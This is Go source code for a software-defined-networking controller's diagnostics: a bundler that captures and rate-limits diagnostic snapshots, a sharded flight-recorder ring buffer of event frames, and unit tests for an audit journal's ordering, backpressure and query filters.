	// diagnosis, newest first.
	Profiles interface{} `json:"profiles,omitempty"`
}

// BundleInfo is the listing view of a retained bundle.
type BundleInfo struct {
	ID      string    `json:"id"`
	Time    time.Time `json:"time"`
	Trigger Trigger   `json:"trigger"`
	App     string    `json:"app,omitempty"`
	Corr    uint64    `json:"corr,omitempty"`
	Detail  string    `json:"detail,omitempty"`
	Frames  int       `json:"frames"`
}

// bundleFrameLimit bounds the frame tail a bundle carries.
const bundleFrameLimit = 512

// bundleAuditLimit bounds the audit tail a bundle carries.
const bundleAuditLimit = 256

// bundleRetain is how many bundles the in-memory ring keeps.
const bundleRetain = 16

// defaultCooldown rate-limits automatic captures per (app, trigger):
// a flapping detector must not turn the bundler into the overhead.
const defaultCooldown = 30 * time.Second

// Bundler captures and retains diagnostic bundles.
type Bundler struct {
	mu       sync.Mutex
	recent   []*Bundle // newest last, bounded by bundleRetain
	last     map[string]time.Time
	cooldown time.Duration
	seq      atomic.Uint64

	dirMu sync.Mutex
	dir   string

	writeErrs atomic.Uint64
}

// defBundler is the process-wide bundler behind /debug/bundle and the
// package-level Capture.
var defBundler = &Bundler{last: make(map[string]time.Time), cooldown: defaultCooldown}

// DefaultBundler returns the process-wide bundler.
func DefaultBundler() *Bundler { return defBundler }

// SetBundleDir sets the directory automatic and manual captures are
// written to as <id>.json ("" disables writing, the default). The
// directory is created if missing.
func SetBundleDir(dir string) error { return defBundler.SetDir(dir) }

// SetDir sets the bundler's output directory ("" disables).
func (b *Bundler) SetDir(dir string) error {
	if dir != "" {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			return fmt.Errorf("recorder: bundle dir: %w", err)
		}
	}
	b.dirMu.Lock()
	b.dir = dir
	b.dirMu.Unlock()
	return nil
}

// SetCooldown adjusts the per-(app,trigger) capture rate limit; d <= 0
// disables rate limiting (tests).
func (b *Bundler) SetCooldown(d time.Duration) {
	b.mu.Lock()
	b.cooldown = d
	b.mu.Unlock()
}

// WriteErrors reports failed bundle-file writes.
func (b *Bundler) WriteErrors() uint64 { return b.writeErrs.Load() }

// Capture builds a bundle on the default bundler. It returns nil when
// the (app, trigger) pair is inside its cooldown window — automatic
// triggers may fire in bursts; the first capture is the valuable one.
func Capture(trigger Trigger, app string, corr uint64, detail string) *Bundle {
	return defBundler.Capture(trigger, app, corr, detail)
}

// Capture builds, retains and (when a directory is set) persists one
// bundle. Manual captures bypass the cooldown.
func (b *Bundler) Capture(trigger Trigger, app string, corr uint64, detail string) *Bundle {
	now := time.Now()
	key := app + "\x00" + string(trigger)
	b.mu.Lock()
	if trigger != TriggerManual && b.cooldown > 0 {
		if prev, ok := b.last[key]; ok && now.Sub(prev) < b.cooldown {
			b.mu.Unlock()
			return nil
		}
	}
	b.last[key] = now
	id := "b" + strconv.FormatUint(b.seq.Add(1), 10) + "-" + strconv.FormatInt(now.UnixNano(), 36)
	b.mu.Unlock()

	bundle := b.build(id, now, trigger, app, corr, detail)

	b.mu.Lock()
	b.recent = append(b.recent, bundle)
	if len(b.recent) > bundleRetain {
		b.recent = b.recent[len(b.recent)-bundleRetain:]
	}
	b.mu.Unlock()

	b.dirMu.Lock()
	dir := b.dir
	b.dirMu.Unlock()
	if dir != "" {
		if err := b.writeFile(dir, bundle); err != nil {
			b.writeErrs.Add(1)
		}
	}
	notifyCapture(trigger, app, corr, detail)
	return bundle
}

// build assembles the capture. Everything here reads live registries;
// nothing blocks beyond their snapshot locks.
func (b *Bundler) build(id string, now time.Time, trigger Trigger, app string, corr uint64, detail string) *Bundle {
	bundle := &Bundle{
		ID:      id,
		Time:    now,
		Trigger: trigger,
		App:     app,
		Corr:    corr,
		Detail:  detail,
		Frames:  def.Snapshot(FrameFilter{App: app, Limit: bundleFrameLimit}),
		Usage:   usageSnapshots(),
		Health:  obs.HealthSnapshots(),
		Metrics: obs.Default().Snapshot(),
	}
	if fn := profilesProvider.Load(); fn != nil {
		bundle.Profiles = (*fn)()
	}
	if corr != 0 {
		bundle.CorrFrames = def.Snapshot(FrameFilter{Corr: corr})
	}
	if app != "" {
		snap := audit.DefaultDetector().Lookup(app)
		bundle.Anomaly = &snap
	}
	bundle.Audit = audit.Default().Query(audit.Filter{App: app, Limit: bundleAuditLimit})

	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	bundle.Runtime = RuntimeStats{
		Goroutines:   runtime.NumGoroutine(),
		HeapAlloc:    ms.HeapAlloc,
		HeapObjects:  ms.HeapObjects,
		TotalAlloc:   ms.TotalAlloc,
		NumGC:        ms.NumGC,
		GCPauseTotal: time.Duration(ms.PauseTotalNs),
	}
	return bundle
}

func (b *Bundler) writeFile(dir string, bundle *Bundle) error {
	data, err := json.MarshalIndent(bundle, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(filepath.Join(dir, bundle.ID+".json"), data, 0o644)
}

// Recent lists retained bundles, newest first.
func (b *Bundler) Recent() []BundleInfo {
	b.mu.Lock()
	defer b.mu.Unlock()
	out := make([]BundleInfo, 0, len(b.recent))
	for i := len(b.recent) - 1; i >= 0; i-- {
		bu := b.recent[i]
		out = append(out, BundleInfo{
			ID: bu.ID, Time: bu.Time, Trigger: bu.Trigger,
			App: bu.App, Corr: bu.Corr, Detail: bu.Detail, Frames: len(bu.Frames),
		})
	}
	return out
}

// Get returns a retained bundle by ID, nil when evicted or unknown.
func (b *Bundler) Get(id string) *Bundle {
	b.mu.Lock()
	defer b.mu.Unlock()
	for _, bu := range b.recent {
		if bu.ID == id {
			return bu
		}
	}
	return nil
}

// ---------------------------------------------------------------------------
// Usage providers

// usageProviders maps a component name (e.g. "shield-1") to a callback
// returning its per-app resource usage — the same extension pattern as
// obs health providers. /apps and bundles pull every provider live.
var (
	usageMu        sync.Mutex
	usageProviders = make(map[string]func() interface{})
)

// RegisterUsage installs a named live per-app usage provider and
// returns its unregister function. Registering an existing name
// replaces it.
func RegisterUsage(name string, fn func() interface{}) (unregister func()) {
	usageMu.Lock()
	usageProviders[name] = fn
	usageMu.Unlock()
	return func() {
		usageMu.Lock()
		delete(usageProviders, name)
		usageMu.Unlock()
	}
}

// usageSnapshots pulls every registered provider.
func usageSnapshots() map[string]interface{} {
	usageMu.Lock()
	names := make([]string, 0, len(usageProviders))
	fns := make(map[string]func() interface{}, len(usageProviders))
	for n, fn := range usageProviders {
		names = append(names, n)
		fns[n] = fn
	}
	usageMu.Unlock()
	sort.Strings(names)
	out := make(map[string]interface{}, len(names))
	for _, n := range names {
		out[n] = fns[n]()
	}
	return out
}

// ---------------------------------------------------------------------------
// Profiler integration

// profilesProvider supplies the Profiles section of every bundle; set by
// obs/prof when a profiler starts. The indirection keeps recorder free
// of any prof dependency (prof imports recorder, never the reverse).
var profilesProvider atomic.Pointer[func() interface{}]

// SetProfilesProvider installs (or, with nil, clears) the callback whose
// result every future bundle embeds as its "profiles" section.
func SetProfilesProvider(fn func() interface{}) {
	if fn == nil {
		profilesProvider.Store(nil)
		return
	}
	profilesProvider.Store(&fn)
}

// captureObservers are notified after every completed (non-suppressed)
// bundle capture. obs/prof joins profile captures to diagnostic events
// through this hook. Observers run on the capturing goroutine and must
// not block — spawn a goroutine for anything slow.
var (
	captureObsMu sync.Mutex
	captureObs   []*func(trigger Trigger, app string, corr uint64, detail string)
)

// OnCapture registers a bundle-capture observer and returns its
// unregister function.
func OnCapture(fn func(trigger Trigger, app string, corr uint64, detail string)) (unregister func()) {
	p := &fn
	captureObsMu.Lock()
	captureObs = append(captureObs, p)
	captureObsMu.Unlock()
	return func() {
		captureObsMu.Lock()
		for i, q := range captureObs {
			if q == p {
				captureObs = append(captureObs[:i], captureObs[i+1:]...)
				break
			}
		}
		captureObsMu.Unlock()
	}
}

func notifyCapture(trigger Trigger, app string, corr uint64, detail string) {
	captureObsMu.Lock()
	observers := make([]*func(Trigger, string, uint64, string), len(captureObs))
	copy(observers, captureObs)
	captureObsMu.Unlock()
	for _, fn := range observers {
		(*fn)(trigger, app, corr, detail)
	}
}

// ---------------------------------------------------------------------------
// Anomaly wiring

// The denial-rate detector is the third automatic trigger (next to
// quota breaches and quarantines, which the isolation layer fires).
// Wiring it here keeps audit free of any recorder dependency.
func init() {
	audit.DefaultDetector().SetOnFlag(func(app string, snap audit.AnomalySnapshot) {
		Record(Frame{
			TS:   time.Now().UnixNano(),
			Kind: KindAnomaly,
			Code: CodeFlagged,
			App:  Intern(app),
			Arg:  int64(snap.EWMA),
		})
		detail := fmt.Sprintf("denial-rate anomaly: ewma=%.1f window=%d total=%d",
			snap.EWMA, snap.WindowDenies, snap.TotalDenies)
		// The callback runs on the journal drain goroutine and must
		// not block; capture in the background.
		go Capture(TriggerAnomaly, app, 0, detail)
	})
}
