// Package recorder is SDNShield's black-box flight recorder: an
// always-on, lock-sharded, bounded ring of compact binary frames — one
// per mediated call, kernel op, supervisor transition, quota breach and
// audit anomaly. Where obs aggregates (counters, histograms) and the
// obs tracer samples (1 in N), the recorder keeps the recent past
// *unsampled*: when something fires, the frames leading up to it are
// already in memory, and a diagnostic bundle (bundle.go) snapshots them
// together with metrics, health, per-app resource usage and the audit
// tail into one correlated JSON document.
//
// The hot path is built to the same 5% overhead budget as obs and
// audit (BenchmarkMediatedCallRecorderOn/Off at the repo root): a
// frame is a few words, app and op names are interned up front into
// 32-bit symbols so recording never hashes a string, the ring is
// striped round-robin across cache-padded shards by sequence number,
// and timestamps reuse clock reads the caller already took.
//
// recorder imports only obs and obs/audit; the isolation layer, the
// controller kernel and the CLIs import recorder, never the reverse.
package recorder

import (
	"runtime"
	"sort"
	"sync"
	"sync/atomic"
	"time"
)

// Kind classifies a frame by the subsystem event it records.
type Kind uint8

// Frame kinds.
const (
	// KindMediatedCall is one app API call crossing the isolation
	// boundary (Op = mediated op, Dur = execution time, Arg = KSD queue
	// residency in nanoseconds).
	KindMediatedCall Kind = 1 + iota
	// KindKernelOp is a kernel operation reaching the wire (Op = wire
	// op, Arg = DPID).
	KindKernelOp
	// KindSupervisor is an app lifecycle transition (panic, restart,
	// quarantine).
	KindSupervisor
	// KindAnomaly is a denial-rate anomaly flag from the audit
	// detector.
	KindAnomaly
	// KindQuota is a soft resource-quota breach (Op = budget
	// dimension, Arg = observed value).
	KindQuota
)

// String names the kind for JSON snapshots.
func (k Kind) String() string {
	switch k {
	case KindMediatedCall:
		return "mediated_call"
	case KindKernelOp:
		return "kernel_op"
	case KindSupervisor:
		return "supervisor"
	case KindAnomaly:
		return "anomaly"
	case KindQuota:
		return "quota"
	default:
		return "unknown"
	}
}

// Code is a frame's compact outcome.
type Code uint8

// Frame codes.
const (
	CodeOK Code = iota
	CodeDenied
	CodeError
	CodePanic
	CodeRestart
	CodeQuarantine
	CodeBreach
	CodeFlagged
)

// String names the code for JSON snapshots.
func (c Code) String() string {
	switch c {
	case CodeOK:
		return "ok"
	case CodeDenied:
		return "denied"
	case CodeError:
		return "error"
	case CodePanic:
		return "panic"
	case CodeRestart:
		return "restart"
	case CodeQuarantine:
		return "quarantine"
	case CodeBreach:
		return "breach"
	case CodeFlagged:
		return "flagged"
	default:
		return "unknown"
	}
}

// ---------------------------------------------------------------------------
// Symbol interning

// Sym is an interned string handle. Recording a frame stores two Syms
// instead of two string headers: the hot path never hashes, and a
// frame stays a few machine words. Sym 0 is the empty string.
type Sym uint32

var symTab = struct {
	sync.RWMutex
	byName map[string]Sym
	names  []string
}{byName: map[string]Sym{"": 0}, names: []string{""}}

// Intern returns the symbol for s, creating it on first use. Call
// sites on hot paths intern once (at app launch, at op-table build)
// and cache the Sym; Intern itself takes a read lock on the fast path.
func Intern(s string) Sym {
	symTab.RLock()
	sym, ok := symTab.byName[s]
	symTab.RUnlock()
	if ok {
		return sym
	}
	symTab.Lock()
	defer symTab.Unlock()
	if sym, ok = symTab.byName[s]; ok {
		return sym
	}
	sym = Sym(len(symTab.names))
	symTab.byName[s] = sym
	symTab.names = append(symTab.names, s)
	return sym
}

// String resolves the symbol ("" for unknown handles).
func (s Sym) String() string {
	symTab.RLock()
	defer symTab.RUnlock()
	if int(s) >= len(symTab.names) {
		return ""
	}
	return symTab.names[s]
}

// ---------------------------------------------------------------------------
// Frames

// Frame is one flight-recorder record. Fixed-size and pointer-free so
// a shard ring is a single contiguous allocation the GC never scans.
type Frame struct {
	// Seq is the global record order, stamped by Record.
	Seq uint64
	// TS is the frame's wall-clock time in Unix nanoseconds. Hot paths
	// pass a timestamp they already read; Record stamps zero values.
	TS int64
	// Dur is the event's duration in nanoseconds (mediated calls).
	Dur int64
	// Corr is the audit correlation ID tying the frame to the mediated
	// call that caused it.
	Corr uint64
	// Arg is kind-specific: KSD queue residency (mediated calls), DPID
	// (kernel ops), observed value (quota breaches).
	Arg int64
	// App and Op are interned names.
	App Sym
	Op  Sym
	// Kind and Code classify the event and its outcome.
	Kind Kind
	Code Code
}

// rshard is one stripe of the ring. The pad keeps neighbouring shard
// mutexes off each other's cache lines.
type rshard struct {
	mu     sync.Mutex
	frames []Frame
	next   int
	n      int
	_      [24]byte
}

// Recorder is the sharded bounded frame ring. Memory is fixed at
// construction: shards × perShard × sizeof(Frame), regardless of how
// long the process runs.
type Recorder struct {
	enabled atomic.Bool
	seq     atomic.Uint64
	// lastTS is the most recent explicit timestamp any frame carried.
	// Zero-TS frames inherit it: a clock read costs tens of nanoseconds
	// on the mediated hot path, so the unsampled majority is stamped
	// approximately (refreshed every sampled call) and ordered exactly
	// by Seq. Cold paths pass precise timestamps instead.
	lastTS atomic.Int64
	shards []rshard
	mask   uint64
}

// shardCount sizes the stripe set like obs does: parallelism rounded
// up to a power of two, capped (16 here — frames are bigger than
// counters, so the cap trades a little contention for memory).
func shardCount() int {
	n := runtime.GOMAXPROCS(0)
	p := 1
	for p < n {
		p <<= 1
	}
	if p > 16 {
		p = 16
	}
	return p
}

// New builds a recorder retaining up to perShard frames on each of
// shardCount() stripes. perShard <= 0 selects the default (2048).
func New(perShard int) *Recorder {
	if perShard <= 0 {
		perShard = 2048
	}
	ns := shardCount()
	r := &Recorder{shards: make([]rshard, ns), mask: uint64(ns - 1)}
	for i := range r.shards {
		r.shards[i].frames = make([]Frame, perShard)
	}
	r.enabled.Store(true)
	return r
}

// def is the process-wide recorder — always on, like obs: the whole
// point of a flight recorder is that it is already running when the
// incident happens.
var def = New(0)

// Default returns the process-wide recorder.
func Default() *Recorder { return def }

// On reports whether the default recorder is recording. Hot paths
// gate their frame construction (and any extra clock reads) on it so
// the disabled mode costs one atomic load.
func On() bool { return def.enabled.Load() }

// SetEnabled flips the default recorder's gate and returns the
// previous state.
func SetEnabled(v bool) bool { return def.enabled.Swap(v) }

// Record appends a frame to the default recorder.
func Record(f Frame) { def.Record(f) }

// Record stamps Seq and appends the frame to the stripe the sequence
// number selects (round-robin: the stripe index is a mask of a counter
// the hot path already pays for, so striping costs nothing and two
// concurrent recorders almost never share a stripe). It overwrites the
// oldest frame when full, never blocks beyond the stripe mutex and
// never allocates. Zero-TS frames are stamped with the last explicit
// timestamp seen (no clock read — see Recorder.lastTS); pass TS
// yourself where precision matters.
func (r *Recorder) Record(f Frame) {
	if r == nil || !r.enabled.Load() {
		return
	}
	f.Seq = r.seq.Add(1)
	if f.TS == 0 {
		if f.TS = r.lastTS.Load(); f.TS == 0 {
			f.TS = time.Now().UnixNano()
			r.lastTS.Store(f.TS)
		}
	} else if f.TS > r.lastTS.Load() {
		r.lastTS.Store(f.TS)
	}
	sh := &r.shards[f.Seq&r.mask]
	sh.mu.Lock()
	sh.frames[sh.next] = f
	sh.next++
	if sh.next == len(sh.frames) {
		sh.next = 0
	}
	if sh.n < len(sh.frames) {
		sh.n++
	}
	sh.mu.Unlock()
}

// Recorded returns the total number of frames ever recorded (including
// ones the ring has since overwritten).
func (r *Recorder) Recorded() uint64 { return r.seq.Load() }

// Len returns the number of frames currently retained.
func (r *Recorder) Len() int {
	total := 0
	for i := range r.shards {
		sh := &r.shards[i]
		sh.mu.Lock()
		total += sh.n
		sh.mu.Unlock()
	}
	return total
}

// Reset clears every shard (tests).
func (r *Recorder) Reset() {
	for i := range r.shards {
		sh := &r.shards[i]
		sh.mu.Lock()
		sh.next, sh.n = 0, 0
		sh.mu.Unlock()
	}
}

// ---------------------------------------------------------------------------
// Snapshots

// FrameFilter selects frames out of a snapshot. Zero fields match
// everything.
type FrameFilter struct {
	// App keeps only frames attributed to the app.
	App string
	// Corr keeps only frames with the correlation ID.
	Corr uint64
	// Kind keeps only frames of the kind.
	Kind Kind
	// Limit keeps only the most recent N matches; 0 means all retained.
	Limit int
}

// FrameSnapshot is the resolved JSON view of one frame.
type FrameSnapshot struct {
	Seq      uint64        `json:"seq"`
	Time     time.Time     `json:"time"`
	Kind     string        `json:"kind"`
	Code     string        `json:"code"`
	App      string        `json:"app,omitempty"`
	Op       string        `json:"op,omitempty"`
	Corr     uint64        `json:"corr,omitempty"`
	Duration time.Duration `json:"duration_ns,omitempty"`
	Arg      int64         `json:"arg,omitempty"`
}

// Snapshot merges the shards into sequence order, resolves symbols and
// applies the filter, oldest first.
func (r *Recorder) Snapshot(filter FrameFilter) []FrameSnapshot {
	if r == nil {
		return nil
	}
	var appSym Sym
	if filter.App != "" {
		symTab.RLock()
		sym, ok := symTab.byName[filter.App]
		symTab.RUnlock()
		if !ok {
			return nil // never interned → never recorded
		}
		appSym = sym
	}
	var frames []Frame
	for i := range r.shards {
		sh := &r.shards[i]
		sh.mu.Lock()
		start := sh.next - sh.n
		if start < 0 {
			start += len(sh.frames)
		}
		for k := 0; k < sh.n; k++ {
			f := &sh.frames[(start+k)%len(sh.frames)]
			if filter.App != "" && f.App != appSym {
				continue
			}
			if filter.Corr != 0 && f.Corr != filter.Corr {
				continue
			}
			if filter.Kind != 0 && f.Kind != filter.Kind {
				continue
			}
			frames = append(frames, *f)
		}
		sh.mu.Unlock()
	}
	sort.Slice(frames, func(a, b int) bool { return frames[a].Seq < frames[b].Seq })
	if filter.Limit > 0 && len(frames) > filter.Limit {
		frames = frames[len(frames)-filter.Limit:]
	}
	out := make([]FrameSnapshot, len(frames))
	for i, f := range frames {
		out[i] = FrameSnapshot{
			Seq:      f.Seq,
			Time:     time.Unix(0, f.TS),
			Kind:     f.Kind.String(),
			Code:     f.Code.String(),
			App:      f.App.String(),
			Op:       f.Op.String(),
			Corr:     f.Corr,
			Duration: time.Duration(f.Dur),
			Arg:      f.Arg,
		}
	}
	return out
}
