package audit

import (
	"sync"
	"testing"
	"time"
)

func TestJournalDrainOrdersBySeq(t *testing.T) {
	j := NewJournal(JournalConfig{Shards: 4, ShardBuffer: 4096, History: 4096})
	const goroutines, per = 8, 200
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < per; i++ {
				j.Emit(Event{Kind: KindPermission, Verdict: VerdictAllow})
			}
		}()
	}
	wg.Wait()
	j.DrainNow()
	got := j.Query(Filter{})
	if len(got) != goroutines*per {
		t.Fatalf("drained %d events, want %d (drops=%d)", len(got), goroutines*per, j.Drops())
	}
	for i := 1; i < len(got); i++ {
		if got[i].Seq <= got[i-1].Seq {
			t.Fatalf("history out of order at %d: %d then %d", i, got[i-1].Seq, got[i].Seq)
		}
	}
	if j.Drops() != 0 {
		t.Fatalf("unexpected drops: %d", j.Drops())
	}
}

func TestJournalBackpressureDropsInsteadOfBlocking(t *testing.T) {
	// Never started: nothing drains, so the tiny shards must overflow.
	j := NewJournal(JournalConfig{Shards: 1, ShardBuffer: 8, History: 16})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := 0; i < 1000; i++ {
			j.Emit(Event{Kind: KindPermission, Verdict: VerdictDeny})
		}
	}()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("Emit blocked under backpressure")
	}
	if j.Drops() == 0 {
		t.Fatal("expected drops on overflowed journal")
	}
	if j.Emitted()+j.Drops() != 1000 {
		t.Fatalf("emitted %d + drops %d != 1000", j.Emitted(), j.Drops())
	}
	j.DrainNow()
	if got := len(j.Query(Filter{})); got > 16 {
		t.Fatalf("history holds %d events, capacity 16", got)
	}
}

func TestJournalHistoryRingEvictsOldest(t *testing.T) {
	j := NewJournal(JournalConfig{Shards: 1, ShardBuffer: 64, History: 8})
	for i := 0; i < 20; i++ {
		j.Emit(Event{Kind: KindFault})
		j.DrainNow()
	}
	got := j.Query(Filter{})
	if len(got) != 8 {
		t.Fatalf("retained %d, want 8", len(got))
	}
	if got[0].Seq != 13 || got[7].Seq != 20 {
		t.Fatalf("retained range [%d,%d], want [13,20]", got[0].Seq, got[7].Seq)
	}
}

func TestJournalQueryFilters(t *testing.T) {
	j := NewJournal(JournalConfig{})
	j.Emit(Event{Kind: KindPermission, Verdict: VerdictAllow, App: "a", Corr: 7})
	j.Emit(Event{Kind: KindPermission, Verdict: VerdictDeny, App: "a", Corr: 8})
	j.Emit(Event{Kind: KindFlowMod, Verdict: VerdictSent, App: "b", Corr: 7})
	j.DrainNow()
	if got := j.Query(Filter{App: "a"}); len(got) != 2 {
		t.Fatalf("app filter: %d, want 2", len(got))
	}
	if got := j.Query(Filter{Kind: KindFlowMod}); len(got) != 1 || got[0].App != "b" {
		t.Fatalf("kind filter mismatch: %+v", got)
	}
	if got := j.Query(Filter{Verdict: VerdictDeny}); len(got) != 1 || got[0].Corr != 8 {
		t.Fatalf("verdict filter mismatch: %+v", got)
	}
	if got := j.Query(Filter{Corr: 7}); len(got) != 2 {
		t.Fatalf("corr filter: %d, want 2", len(got))
	}
	if got := j.Query(Filter{Limit: 1}); len(got) != 1 || got[0].Kind != KindFlowMod {
		t.Fatalf("limit should keep the newest: %+v", got)
	}
	if got := j.Query(Filter{AfterSeq: 2}); len(got) != 1 || got[0].Seq != 3 {
		t.Fatalf("after-seq filter mismatch: %+v", got)
	}
}

func TestJournalFlushDeliversToConsumers(t *testing.T) {
	j := NewJournal(JournalConfig{})
	j.Start()
	defer j.Stop()
	var mu sync.Mutex
	var seen []uint64
	j.AddConsumer(func(ev Event) {
		mu.Lock()
		seen = append(seen, ev.Seq)
		mu.Unlock()
	})
	for i := 0; i < 50; i++ {
		j.Emit(Event{Kind: KindTx, Verdict: VerdictCommit})
	}
	j.Flush()
	mu.Lock()
	defer mu.Unlock()
	if len(seen) != 50 {
		t.Fatalf("consumer saw %d events, want 50", len(seen))
	}
	for i := 1; i < len(seen); i++ {
		if seen[i] <= seen[i-1] {
			t.Fatalf("consumer saw out-of-order seqs: %v", seen)
		}
	}
}

func TestJournalSetEnabledGatesEmit(t *testing.T) {
	j := NewJournal(JournalConfig{})
	if prev := j.SetEnabled(false); !prev {
		t.Fatal("journal should start enabled")
	}
	j.Emit(Event{Kind: KindFault})
	j.DrainNow()
	if got := len(j.Query(Filter{})); got != 0 {
		t.Fatalf("disabled journal accepted %d events", got)
	}
	j.SetEnabled(true)
	j.Emit(Event{Kind: KindFault})
	j.DrainNow()
	if got := len(j.Query(Filter{})); got != 1 {
		t.Fatalf("re-enabled journal has %d events, want 1", got)
	}
}

func TestJournalWaitQueryWakesOnPublish(t *testing.T) {
	j := NewJournal(JournalConfig{})
	j.Start()
	defer j.Stop()
	start := j.LastSeq()
	res := make(chan []Event, 1)
	go func() { res <- j.WaitQuery(Filter{AfterSeq: start}, 5*time.Second) }()
	time.Sleep(20 * time.Millisecond)
	j.Emit(Event{Kind: KindSwitch, Verdict: VerdictConnect, DPID: 42})
	select {
	case got := <-res:
		if len(got) != 1 || got[0].DPID != 42 {
			t.Fatalf("long-poll returned %+v", got)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("WaitQuery never woke")
	}
	// And it must time out cleanly when nothing arrives.
	if got := j.WaitQuery(Filter{AfterSeq: j.LastSeq()}, 30*time.Millisecond); got != nil {
		t.Fatalf("expected timeout nil, got %+v", got)
	}
}

func TestNextCorrIsUniqueAndNonzero(t *testing.T) {
	a, b := NextCorr(), NextCorr()
	if a == 0 || b == 0 || a == b {
		t.Fatalf("bad corr ids: %d %d", a, b)
	}
}
